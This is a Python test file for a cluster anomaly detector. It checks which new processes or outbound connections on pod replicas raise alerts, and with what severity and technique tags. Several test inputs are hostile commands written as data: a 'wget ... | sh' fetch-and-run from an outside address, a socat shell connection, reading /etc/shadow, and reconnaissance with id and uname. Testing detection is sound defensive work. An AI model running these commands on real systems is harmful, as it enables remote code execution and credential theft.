"""What is new in the first minutes, and what a workload does by itself now and then on any of its replicas."""

from collections.abc import Sequence

import pytest
from detection.cluster import Cluster, Replica, alerts, analyse
from peerwatch.columns import Peer
from peerwatch.subjects import Workload

from collector.records import Severity

DATABASE = Peer("shop", Workload("Service", "db"))


def job(cluster: Cluster, at: float, pod: Replica, script: str, *tools: str) -> None:
    shell = cluster.exec(at, pod, "/usr/bin/dash", args=("sh", "-c", script))
    for number, tool in enumerate(tools):
        cluster.exec(at + 0.01 * (number + 1), pod, f"/usr/bin/{tool}", parent="/usr/bin/dash", parent_pid=shell)


def test_a_job_of_its_own_that_wanders_over_the_replicas_is_told_at_most_once(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 3000)
    for turn in range(8):
        job(cluster, 300.5 + turn * 330, pods[turn * 2 % 5], f"sed -n {turn}p /etc/app.conf | tee /run/line", "sed", "tee")

    assert len(alerts(analyse(cluster, until=3100))) <= 1


def test_a_rare_helper_in_the_first_minutes_is_no_alert(cluster: Cluster) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 300)
    cluster.exec(90.5, pods[2], "/usr/bin/ffmpeg", args=("ffmpeg", "-i", "/uploads/x.mp4"))
    job(cluster, 100.5, pods[3], "openssl dgst -sha256 /srv/x", "openssl")

    assert alerts(analyse(cluster, until=400)) == []


@pytest.mark.parametrize(
    "script", ["convert a.png b.webp", "tar czf /srv/a.tgz /srv/a", "cd /srv && render --to /srv/x > /srv/log"]
)
def test_a_helper_that_a_service_calls_through_a_shell_is_no_alert_in_the_first_minutes(cluster: Cluster, script: str) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 300)
    job(cluster, 90.5, pods[2], script, "convert")

    assert alerts(analyse(cluster, until=400)) == []


@pytest.mark.parametrize(
    "script",
    ["/tmp/x --daemon", "convert a.png > /etc/app.conf", "socat - tcp:10.1.1.1:22", "python3 x.py", "mysql -h shop"],
)
def test_a_shell_that_is_told_more_is_found_in_the_first_minutes(cluster: Cluster, script: str) -> None:
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 300)
    job(cluster, 90.5, pods[2], script)

    assert [each.pod for alert in alerts(analyse(cluster, until=400)) for each in alert.replicas] == ["cart-r1-2"]


def test_a_shell_that_looks_around_in_the_second_minute_is_found(cluster: Cluster) -> None:
    pods = cluster.pods(3)
    cluster.normal(pods, 0, 300)
    job(cluster, 70.5, pods[1], "id; uname -a", "id", "uname")

    (alert,) = alerts(analyse(cluster, until=400))

    assert [each.pod for each in alert.replicas] == ["cart-r1-1"]


def test_an_implant_that_was_there_from_the_first_second_is_found(cluster: Cluster) -> None:
    pods = cluster.pods(3)
    cluster.normal(pods, 0, 600, every=10)
    for second in range(1, 600, 60):
        job(cluster, second + 0.3, pods[1], "wget -qO- http://203.0.113.9/x | sh", "wget")

    (alert, *_) = alerts(analyse(cluster, until=700))

    assert [each.pod for each in alert.replicas] == ["cart-r1-1"]


def test_a_service_that_never_left_the_cluster_and_does_on_one_replica_is_found(cluster: Cluster) -> None:
    pods = cluster.pods(4)
    for second in range(1, 600, 5):
        for pod in pods:
            cluster.connect(second, pod, "/usr/bin/server", ("10.0.0.7", 5432), peer=DATABASE)
    for second in range(400, 600, 10):
        cluster.connect(second, pods[2], "/usr/bin/server", ("203.0.113.9", 443))

    (alert,) = alerts(analyse(cluster, until=700))

    assert [each.pod for each in alert.replicas] == ["cart-r1-2"]
    assert alert.techniques == ("T1071.001",)


def test_a_service_that_leaves_the_cluster_once_has_something_to_ask(cluster: Cluster) -> None:
    pods = cluster.pods(4)
    for second in range(1, 600, 5):
        for pod in pods:
            cluster.connect(second, pod, "/usr/bin/server", ("10.0.0.7", 5432), peer=DATABASE)
    for second in (400, 401):  # both families of addresses
        cluster.connect(second, pods[2], "/usr/bin/server", ("203.0.113.9", 443))

    assert alerts(analyse(cluster, until=900)) == []


def with_a_supplier(cluster: Cluster, port: int, seconds: range) -> Sequence[Replica]:
    """Make four replicas that all go to the same address outside, time and again."""
    pods = cluster.pods(4)
    for second in seconds:
        for pod in pods:
            cluster.connect(second, pod, "/usr/bin/server", ("52.1.2.3", port))
    return pods


def test_a_service_with_suppliers_outside_may_meet_another(cluster: Cluster) -> None:
    pods = with_a_supplier(cluster, 443, range(1, 600, 5))
    cluster.connect(400, pods[2], "/usr/bin/server", ("13.5.6.7", 443))

    assert alerts(analyse(cluster, until=700)) == []


@pytest.mark.parametrize(("begin", "port", "found"), [(1200, 8443, []), (3000, 8443, ["cart-r1-2"]), (3000, 443, [])])
def test_another_destination_outside_is_told_of_a_service_that_is_known_for_long_but_for_the_web(
    cluster: Cluster, begin: int, port: int, found: list[str]
) -> None:
    pods = with_a_supplier(cluster, 443, range(1, 3600, 20))
    cluster.connect(begin, pods[2], "/usr/bin/server", ("13.5.6.7", port))

    assert [each.pod for alert in alerts(analyse(cluster, until=3700)) for each in alert.replicas] == found


@pytest.mark.parametrize(
    ("program", "port", "found"),
    [
        ("/usr/bin/server", 9092, []),
        ("/usr/bin/server", 22, ["cart-r1-2"]),
        ("/usr/bin/ncat", 9092, ["cart-r1-2"]),
    ],
)
def test_who_goes_outside_to_a_port_as_a_matter_of_course_meets_other_addresses_there(
    cluster: Cluster, program: str, port: int, found: list[str]
) -> None:
    pods = with_a_supplier(cluster, 9092, range(1, 3600, 20))
    cluster.connect(3000, pods[2], program, ("13.5.6.7", port))

    assert [each.pod for alert in alerts(analyse(cluster, until=3700)) for each in alert.replicas] == found


def test_what_a_shell_is_told_in_its_first_minute_is_judged_although_all_run_the_shell(cluster: Cluster) -> None:
    pods = cluster.pods(3)
    cluster.normal(pods, 0, 400, every=2)
    for turn in range(30):
        job(cluster, 22.5 + 10 * turn, pods[turn % 3], "tee /run/line", "tee")
    job(cluster, 24.5, pods[1], "sort /etc/shadow", "sort")

    (alert,) = alerts(analyse(cluster, until=500))

    assert [each.pod for each in alert.replicas] == ["cart-r1-1"]
    assert "T1003.008" in alert.techniques


def test_nobody_is_woken_by_what_was_seen_for_a_minute_and_hardly_ever(cluster: Cluster) -> None:
    for workload, at in (("cart", 80.5), ("shop", 900.5)):
        pods = cluster.pods(4, workload=workload)
        cluster.normal(pods, 0, 1000, every=10)
        cluster.exec(at, pods[1], "/usr/bin/nc")

    severity = {each.workload.name: each.severity for each in alerts(analyse(cluster, until=1100))}

    assert severity == {"cart": Severity.MEDIUM, "shop": Severity.HIGH}


def test_a_service_that_finds_much_that_is_new_and_never_a_tool_of_intruders_is_told_of_its_first(cluster: Cluster) -> None:
    pods = cluster.pods(3)
    cluster.normal(pods, 0, 1800, every=15)
    for number in range(40):
        name = f"helper-{chr(97 + number // 7)}{chr(97 + number % 7)}x"
        cluster.exec(60.5 + 30 * number, pods[number % 3], f"/usr/lib/app/{name}")
    cluster.exec(1301.5, pods[1], "/usr/sbin/iptables")

    (alert,) = alerts(analyse(cluster, until=1900))

    assert alert.behaviours[0].key == "/usr/sbin/iptables <- /usr/bin/server"
